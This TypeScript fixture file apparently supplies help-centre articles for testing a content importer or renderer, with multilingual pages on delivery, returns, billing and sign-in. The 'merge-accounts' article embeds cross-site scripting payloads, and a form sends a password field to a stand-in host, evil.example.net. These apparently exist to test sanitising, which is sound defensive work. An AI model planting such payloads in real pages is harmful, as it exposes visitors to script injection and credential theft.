import type { ArticleText } from '../model.js';

/** Articles of the help centre as they were written. See ArticleText for the marks in double braces. */
export interface WrittenVersion {
  readonly language: string;
  readonly published: ArticleText | null;
  readonly draft?: ArticleText;
}

export interface WrittenArticle {
  readonly key: string;
  readonly category: string | null;
  readonly internal?: boolean;
  readonly removed?: boolean;
  readonly tags?: readonly string[];
  readonly versions: readonly WrittenVersion[];
}

const text = (title: string, slug: string, description: string, html: string): ArticleText => ({
  title,
  slug,
  description,
  html,
});

export const writtenArticles: readonly WrittenArticle[] = [
  {
    key: 'track-your-parcel',
    category: 'delivery',
    tags: ['delivery', 'popular'],
    versions: [
      {
        language: 'en-US',
        published: text(
          'Track your parcel',
          'track-your-parcel',
          'Where your order is and what the carrier’s words mean',
          `<h2>Where is my order?</h2><p>Open the link in your shipping mail, or sign in and choose <strong>My orders → Track</strong>.</p>
<p>{{picture:tracking-page}}</p>
<h3>What the carrier’s words mean</h3>
<table><thead><tr><th>Status</th><th>Meaning</th><th>What to do</th></tr></thead><tbody>
<tr><td>Announced</td><td>We have printed the label.</td><td rowspan="2">Nothing, please wait.</td></tr>
<tr><td>In transit</td><td>The parcel is on its way.</td></tr>
<tr><td>Held at depot</td><td colspan="2">Call the carrier within <em>7&nbsp;days</em>.</td></tr>
</tbody></table>
<blockquote><p>No scan for five working days? <a href="{{link:return-an-item}}#lost">Tell us</a> and we look for it.</p></blockquote>`,
        ),
      },
      {
        language: 'de-DE',
        published: text(
          'Sendung verfolgen',
          'sendung-verfolgen',
          'Wo Ihre Bestellung ist',
          `<h2>Wo ist meine Bestellung?</h2><p>Öffnen Sie den Link in der Versandmail oder wählen Sie <strong>Meine Bestellungen → Verfolgen</strong>.</p><p>{{picture:tracking-page}}</p><p>Siehe auch <a href="{{link:return-an-item}}">Rückgabe</a>.</p>`,
        ),
      },
      {
        language: 'fr-CA',
        published: text(
          'Suivre votre colis',
          'suivre-votre-colis',
          'Où se trouve votre commande',
          `<h2>Où est ma commande ?</h2><p>Ouvrez le lien dans le courriel d’expédition&nbsp;: «&nbsp;Suivre&nbsp;».</p>`,
        ),
        draft: text(
          'Suivre votre colis (nouveau)',
          'suivre-votre-colis',
          'Où se trouve votre commande',
          `<h2>Où est ma commande ?</h2><p>Nouvelle page de suivi dès le mois prochain.</p>`,
        ),
      },
    ],
  },
  {
    key: 'return-an-item',
    category: 'returns',
    tags: ['returns', 'popular'],
    versions: [
      {
        language: 'en-US',
        published: text(
          'Return an item',
          'return-an-item',
          'Thirty days, free of charge, step by step',
          `<p>You have <strong>30 days</strong>. Returning is free.</p>
<ol><li>Sign in and open <em>My orders</em>.<ul><li>No account? Use the number on the delivery note.</li><li>A gift? Ask for a <a href="{{link:merge-accounts}}">gift return</a>:<ol type="a"><li>the giver’s name,</li><li>the postcode.</li></ol></li></ul></li>
<li>Choose the item and a reason.</li><li>Print the label {{picture:return-label}} and put it <u>over</u> the old one.</li></ol>
<h3 id="lost">Lost parcels</h3><p>Write to <a href="mailto:support@example.com?subject=Lost%20parcel">support@example.com</a>.</p>
<details><summary>Packing glass</summary><p>Two layers of card on each side, paper in every corner.</p></details>
<hr><p><small>See also <a href="{{link:refund-times}}">when the money comes back</a> and <a href="{{link:an-article-that-never-was}}">this page</a>.</small></p>`,
        ),
        draft: text(
          'Return an item',
          'return-an-item',
          'Forty-five days, free of charge',
          `<p>You have <strong>45 days</strong>. (Draft, waits for the lawyers.)</p>`,
        ),
      },
      {
        language: 'pl-PL',
        published: text(
          'Zwrot towaru',
          'zwrot-towaru',
          'Trzydzieści dni, bezpłatnie',
          `<p>Masz <strong>30 dni</strong>. Zwrot jest bezpłatny.</p><ol><li>Zaloguj się.</li><li>Wybierz produkt.</li><li>Naklej etykietę {{picture:return-label}}.</li></ol>`,
        ),
      },
    ],
  },
  {
    key: 'refund-times',
    category: 'returns',
    tags: ['refund'],
    versions: [
      {
        language: 'en-US',
        published: text(
          'When does my refund arrive?',
          'refund-times',
          'Three to five working days after we have your parcel',
          `<p>As soon as the parcel is back we release the money the <mark>same day</mark>.</p><dl><dt>Card</dt><dd>3–5 working days</dd><dt>Bank transfer</dt><dd>1–2 working days</dd><dt>Voucher</dt><dd>at once</dd></dl><p>Prices end in 9 &amp; we round to 0.01&nbsp;€; 5 &lt; 7, &quot;quotes&quot;, &#8364;, &#x1F4B6;.</p>`,
        ),
      },
    ],
  },
  {
    key: 'change-billing-address',
    category: 'billing',
    versions: [
      {
        language: 'en-US',
        published: text(
          'Change your billing address',
          'change-billing-address',
          'For future and for past invoices',
          `<p>Go to <code>Account → Billing</code>.</p><pre><code class="language-text">Company
Street and number
Postcode, City
VAT id (EU only)</code></pre><p>Past invoices: <a href="https://help.example.com/en_us/change-billing-address">this same page by its old address</a>, or write to us.</p>`,
        ),
      },
    ],
  },
  {
    key: 'assembly-guide',
    category: 'assembly',
    tags: ['assembly'],
    versions: [
      {
        language: 'en-US',
        published: text(
          'Putting furniture together',
          'assembly-guide',
          'With pictures and a film',
          `<div class="callout callout-warning"><p><strong>Careful:</strong> tighten the screws only when everything stands.</p></div>
<p>{{picture:exploded-view}}</p><p>Film (4 min):</p><iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/EXAMPLE0001" title="How to put it together" frameborder="0" allowfullscreen></iframe>
<p>Or by steps:</p><ol start="0"><li>Read everything once.</li><li>Lay out the parts:<ul><li>A, B: sides</li><li>C: back<ul><li>groove to the front</li></ul></li></ul></li><li>Bag&nbsp;B: six screws M6&nbsp;×&nbsp;50.</li></ol>
<figure>{{picture:screws}}<figcaption>Bag B, as it should be</figcaption></figure><p>Still short of a screw? {{picture:never-uploaded}}</p>`,
        ),
      },
    ],
  },
  {
    key: 'sign-in-help',
    category: 'security',
    tags: ['login', 'popular'],
    versions: [
      {
        language: 'en-US',
        published: text(
          'I cannot sign in',
          'sign-in-help',
          'Password, lock, wrong address',
          `<h2>Three usual reasons</h2><ul><li><p>Wrong address: capital letters.</p></li><li><p>Locked: wait 30 minutes.</p></li><li><p>Old browser.</p></li></ul><p>Reset it <a href="https://shop.example.com/reset" target="_blank" rel="noopener">here</a>. Two accounts? <a href="{{link:merge-accounts}}">Merge them</a>.</p>`,
        ),
      },
      {
        language: 'ar-MA',
        published: text(
          'لا أستطيع تسجيل الدخول',
          'sign-in-help-ar',
          'كلمة السر والحساب المقفل',
          `<div dir="rtl"><h2>الأسباب المعتادة</h2><ul><li>عنوان بريد خاطئ</li><li>الحساب مقفل: انتظر 30 دقيقة</li></ul><p><a href="{{link:merge-accounts}}">دمج حسابين</a></p></div>`,
        ),
      },
    ],
  },
  {
    key: 'merge-accounts',
    category: 'security',
    versions: [
      {
        language: 'en-US',
        published: text(
          'Two accounts into one',
          'merge-accounts',
          'Keeps all orders',
          `<p>Ask our team; orders of both are kept.</p><p onclick="steal()">Your points, too. <a href="javascript:alert(1)">More</a></p><script>document.write('<p>should never be seen</p>')</script><style>p{color:red}</style><img src="x" onerror="alert(2)"><form action="https://evil.example.net"><input name="password"></form><object data="https://evil.example.net/x.swf"></object><svg><a xlink:href="javascript:alert(3)"><text>svg</text></a></svg><font color="#f00" size="5">Old <center>style</center></font><p style="position:fixed;top:0">Style bits</p>`,
        ),
      },
    ],
  },
  {
    key: 'flickering-lamp',
    category: 'lamps',
    tags: ['technical'],
    versions: [
      {
        language: 'en-US',
        published: text(
          'My lamp flickers',
          'flickering-lamp',
          'Try this first',
          `<p>Bulb: <strong>E14</strong>, at most 40&nbsp;W.</p><table border="1" cellpadding="4"><caption>Which bulb?</caption><tr><th scope="row">Harbour</th><td>E14</td><td><ul><li>warm</li><li>dimmable</li></ul></td></tr><tr><th scope="row">Lantern XL</th><td>E27</td><td><table><tr><td>nested</td><td>table</td></tr></table></td></tr></table><p>{{picture:bulb}} <kbd>Off</kbd> → wait 10&nbsp;s → <kbd>On</kbd></p><video controls src="https://video.example.com/flicker.mp4"></video>`,
        ),
      },
      {
        language: 'ja-JP',
        published: null,
        draft: text(
          'ランプがちらつく',
          'flickering-lamp-ja',
          '最初にお試しください',
          '<p>電球：E14、40Wまで。</p>',
        ),
      },
    ],
  },
  {
    key: 'trade-accounts',
    category: 'billing',
    versions: [
      {
        language: 'en-US',
        published: text(
          'Trade accounts',
          'trade-accounts',
          'For hotels, offices and designers',
          `<p>From 2&nbsp;000&nbsp;€ a year. <a href="{{link:change-billing-address}}">Billing</a> monthly.</p><p>Discount <em>d</em> for <em>n</em> items: d&nbsp;=&nbsp;min(18, n/2)&nbsp;%.</p>`,
        ),
      },
    ],
  },
  {
    key: 'your-data',
    category: 'security',
    tags: ['gdpr'],
    versions: [
      {
        language: 'en-US',
        published: text(
          'Your data',
          'your-data',
          'What we keep and for how long',
          `<p>We keep invoices for ten years, messages for three.</p><p>Zoe\u0308, <bdi>שלום</bdi>, line\u2028separator, soft&shy;hyphen, zero\u200Bwidth.</p>`,
        ),
      },
    ],
  },
  {
    key: 'escalation-rules',
    category: 'handbook',
    internal: true,
    tags: ['team-only'],
    versions: [
      {
        language: 'en-US',
        published: text(
          'When to escalate (team only)',
          'escalation-rules',
          'For our eyes only',
          `<p>Refunds above <strong>250&nbsp;€</strong> go to the team lead. Do not send this page to customers.</p><p>See <a href="{{link:refund-times}}">refund times</a>.</p>`,
        ),
      },
    ],
  },
  {
    key: 'christmas-hours',
    category: 'delivery',
    removed: true,
    versions: [
      {
        language: 'en-US',
        published: text(
          'Opening hours at Christmas',
          'christmas-hours',
          'Last year’s',
          '<p>Closed from the 24th.</p>',
        ),
      },
    ],
  },
  {
    key: 'gift-wrapping',
    category: null,
    versions: [
      {
        language: 'en-US',
        published: null,
        draft: text(
          'Gift wrapping',
          'gift-wrapping',
          'Coming soon',
          '<p>Soon: paper with pine trees. {{picture:tracking-page}}</p>',
        ),
      },
    ],
  },
];

export interface WrittenCategory {
  readonly key: string;
  readonly parent: string | null;
  readonly published?: boolean;
  readonly titles: Readonly<Record<string, readonly [title: string, description: string]>>;
}

export const writtenCategories: readonly WrittenCategory[] = [
  {
    key: 'orders',
    parent: null,
    titles: {
      'en-US': ['Orders', 'Before and after you buy'],
      'de-DE': ['Bestellungen', 'Vor und nach dem Kauf'],
    },
  },
  {
    key: 'delivery',
    parent: 'orders',
    titles: { 'en-US': ['Delivery', 'Where it is and when it comes'], 'de-DE': ['Lieferung', 'Wo und wann'] },
  },
  {
    key: 'returns',
    parent: 'orders',
    titles: { 'en-US': ['Returns & refunds', 'Thirty days'], 'pl-PL': ['Zwroty', 'Trzydzieści dni'] },
  },
  { key: 'billing', parent: null, titles: { 'en-US': ['Billing', 'Invoices and payment'] } },
  { key: 'account', parent: null, titles: { 'en-US': ['Your account', ''] } },
  {
    key: 'security',
    parent: 'account',
    titles: { 'en-US': ['Sign-in & data', 'Passwords and privacy'], 'ar-MA': ['الدخول والبيانات', ''] },
  },
  { key: 'products', parent: null, titles: { 'en-US': ['Products', 'Use and care'] } },
  { key: 'furniture', parent: 'products', titles: { 'en-US': ['Furniture', ''] } },
  { key: 'assembly', parent: 'furniture', titles: { 'en-US': ['Assembly', 'Screws and panels'] } },
  { key: 'lighting', parent: 'products', titles: { 'en-US': ['Lighting', ''] } },
  {
    key: 'lamps',
    parent: 'lighting',
    titles: { 'en-US': ['Lamps', 'Bulbs and switches'], 'ja-JP': ['ランプ', ''] },
  },
  { key: 'handbook', parent: null, published: false, titles: { 'en-US': ['Team handbook', 'Internal'] } },
];
